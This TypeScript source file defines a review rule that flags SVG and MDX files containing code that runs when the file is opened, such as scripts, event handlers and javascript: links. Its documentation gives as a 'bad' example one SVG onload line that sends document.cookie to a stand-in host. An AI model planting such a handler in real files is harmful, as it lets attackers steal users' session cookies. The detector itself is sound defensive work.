import type { FileChange, Rule } from '../../model.js';
import { MAX_ANCHOR } from '../../text/reach.js';
import { leaveToPerson } from '../leave-to-person.js';
import { findNewLines } from '../new-lines.js';
import { toFileName } from '../wording.js';

/** Pictures are often one long line: so far it is looked through, in UTF-16 code units. */
const MAX_SEARCHED = 20_000;

/** A picture or a document that runs code where it is shown. */
export const activeContent: Rule = {
  id: 'hygiene/active-content',
  severity: 'info',
  summary: 'A picture or document contains code that runs',
  docs: {
    why: 'If somebody opens an SVG file directly, its scripts run with the rights of the site that serves it. Code in an MDX document runs when it is built or read.',
    bad: {
      files: {
        'assets/logo.svg': [
          ' <?xml version="1.0"?>',
          '+<svg onload="fetch(\'//x.example/\' + document.cookie)"></svg>',
        ],
      },
    },
    good: {
      files: {
        'assets/logo.svg': [' <?xml version="1.0"?>', '+<svg viewBox="0 0 24 24"><path d="M0 0h24v24H0z"/></svg>'],
      },
    },
  },
  suppressible: true,
  check(context) {
    const found = findNewLines(
      context,
      ({ file, class: kind }) => /\.(?:svg|mdx)$/iu.test(file.path) && kind !== 'vendored',
    ).flatMap(({ change, lines }) => {
      const pattern = change.file.path.toLowerCase().endsWith('.svg') ? IN_SVG : IN_MDX;
      const shown = pattern === IN_MDX ? findShownLines(change) : NO_LINES;
      const plain = pattern === IN_MDX && isPlain(change, shown);
      const line = lines.find(({ number, text }) => {
        if (shown.has(number)) return false;
        const asks = plain && !/[{}]/u.test(text) ? IN_TEXT : pattern;
        return asks.test(leaveOutSpans(text.slice(0, MAX_SEARCHED), pattern));
      });
      if (line === undefined) return [];
      return [
        {
          file: change.file.path,
          first: line.number,
          last: line.number,
          title: `${toFileName(change.file.path)} runs code where it is shown`,
          rationale:
            'This code runs when somebody opens the file. If people only look at the file, remove the script, the handler or the address.',
          anchor: line.text.slice(0, MAX_ANCHOR),
          ...(change.class === 'test' ? { severity: 'info' as const } : {}),
        },
      ];
    });
    return leaveToPerson(found);
  },
};

const IN_SVG =
  /<script\b|[\s"']on(?:load|error|click|mouse\w{1,10}|focus\w{0,3}|blur|begin|end|repeat|key\w{1,6}|activate|toggle)\s{0,4}=|(?:href|src)\s{0,4}=\s{0,4}["']?\s{0,4}(?:javascript|data:text\/html)|<foreignObject\b[^>]{0,500}>\s{0,10}<(?:iframe|embed|object)\b/iu;
const IN_MDX =
  /<script\b|\bdangerouslySetInnerHTML\b|\b(?:child_process|process\.env)\b|(?:href|src)\s{0,4}=\s{0,4}["']\s{0,4}javascript:/iu;

/** What runs in a line of MDX that is text: names of code are prose there. */
const IN_TEXT = /<script\b|(?:href|src)\s{0,4}=\s{0,4}["']\s{0,4}javascript:/iu;

const IMPORT = /^import\s[^;"'`]{1,500}\sfrom\s["'][^"'`]{1,500}["'];?\s{0,4}$/u;
/** An expression on one line, without a text in it that may hold a bracket. */
const EXPRESSION = /\{[^{}"'`]{0,500}\}/gu;

/** Returns true for an MDX document whose code stands in whole lines and in expressions of one line: the rest is text. */
function isPlain({ file }: FileChange, shown: ReadonlySet<number>): boolean {
  const isText = (text: string) =>
    text.length <= MAX_SEARCHED &&
    (IMPORT.test(text) || !/[{}]|^\s{0,40}(?:import|export)\b/u.test(text.replace(EXPRESSION, ' ')));
  return file.new_text?.split('\n').every((text, at) => shown.has(at + 1) || isText(text.trimEnd())) === true;
}

const NO_LINES: ReadonlySet<number> = new Set();

/** A fence of CommonMark, in a list or a quotation too. */
const FENCE = /^[\s>]{0,40}(`{3,}|~{3,})(.{0,500})$/u;

/**
 * Returns the lines of an MDX document that are shown as they are written: those of closed fences. Returns none where the
 * whole text is not at hand, and none where a line outside has an odd number of backticks: a text of JavaScript may hold
 * lines that look like fences.
 */
function findShownLines({ file }: FileChange): ReadonlySet<number> {
  if (file.new_text === null) return NO_LINES;
  const shown = new Set<number>();
  let open: { readonly mark: string; readonly line: number } | null = null;
  for (const [at, text] of file.new_text.split('\n').entries()) {
    const [, mark = '', info = ''] = FENCE.exec(text.trimEnd()) ?? [];
    if (open !== null) {
      if (!mark.startsWith(open.mark) || info !== '') continue;
      for (let line = open.line; line <= at + 1; line += 1) shown.add(line);
      open = null;
    } else if (mark !== '' && !(mark.startsWith('`') && info.includes('`'))) {
      open = { mark, line: at + 1 };
    } else if (text.split('`').length % 2 === 0) {
      return NO_LINES;
    }
  }
  return shown;
}

/** Takes code spans out of a line of MDX: they are shown. A template that puts values in is none. */
function leaveOutSpans(text: string, pattern: RegExp): string {
  return pattern === IN_MDX && !/[{}]/u.test(text) ? text.replace(/`[^`]*`/gu, ' ') : text;
}
